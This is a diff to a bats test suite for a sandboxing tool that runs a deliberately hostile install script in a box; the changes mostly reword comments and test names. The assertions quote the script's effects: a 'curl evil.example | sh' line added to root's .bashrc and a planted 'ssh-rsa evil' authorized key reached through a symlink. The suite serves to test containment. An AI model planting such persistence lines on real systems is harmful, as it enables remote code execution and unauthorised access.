@@ -1,5 +1,6 @@
 #!/usr/bin/env bats
-# sandbox-patterns(7), installation: a hostile install script, from trying it to taking and packing it.
+# sandbox-patterns(7), installation: a hostile install script, from trying it to applying and
+# packing the result.
 
 load helpers
 load oracle
@@ -33,7 +34,7 @@ for_each() { # what the script did, and nothing more
 	run ! grep -e online -e stolen -e /src <<<"$output"
 }
 
-@test "the script is root of a box, and all that it did is listed, shown, taken, packed and thrown away" {
+@test "the script is root of a box, and everything it did can be listed, shown, applied, packed and discarded" {
 	port=$((20000 + RANDOM % 20000))
 	listen $port
 	[ "$(install_in_box try)" = installed ]
@@ -49,7 +50,7 @@ for_each() { # what the script did, and nothing more
 	[[ $output = *$'+++ b/etc/tool.conf\n@@ -0,0 +1 @@\n+level = high'* ]]
 	[[ $output = *$'+++ b/root/.bashrc\n'*'+curl evil.example | sh'* ]]
 
-	# Taken: the program without its set-id bit, for this user alone.
+	# Applied: the program without its set-id bit, only for this user.
 	sandbox apply --quiet --yes --from /usr/local --to "$HOME/.local" "$T/p" >listed
 	[ "$("$HOME/.local/bin/tool-1.0")" = 'tool 1.0' ]
 	[ "$(stat -c %a "$HOME/.local/bin/tool")" = 755 ]
@@ -57,7 +58,7 @@ for_each() { # what the script did, and nothing more
 	[ ! -e "$HOME/.bashrc" ]
 	run ! grep -q $'\033' listed
 
-	# The next round finds no way out through the link of the first.
+	# The next round cannot get out through the symlink of the first.
 	[ "$(install_in_box try again)" = installed ]
 	fails 125 "*cannot apply '/usr/local/share/doc' to '$HOME/.local/share/doc': it is a directory in the box, and none on the host*" \
 		sandbox apply --quiet --yes --from /usr/local --to "$HOME/.local" "$T/p"
@@ -70,18 +71,18 @@ for_each() { # what the script did, and nothing more
 	[ "$(unpacked/bin/tool)" = 'tool 1.0' ]
 	[ "$(cat unpacked/share/doc/.ssh/authorized_keys)" = 'ssh-rsa evil' ]
 
-	# Thrown away.
+	# Discarded.
 	sandbox discard --force "$T/p"
 	says_nothing sandbox ls --names
 	unheard
 	unharmed
 }
 
-@test "enter with the same profile: the box is kept, and what it has is the same" {
+@test "enter with the same profile: the box is kept, with the same content" {
 	port=1
 	[ "$(install_in_box enter)" = installed ]
 	for_each
-	# To the staging directory itself, from where it can go on by hand.
+	# To the staging directory itself, to be continued by hand.
 	sandbox apply --quiet --yes "$T/p" >/dev/null
 	[ "$(p/staging/bin/tool)" = 'tool 1.0' ]
 	says_nothing sandbox diff "$T/p" -- /usr/local
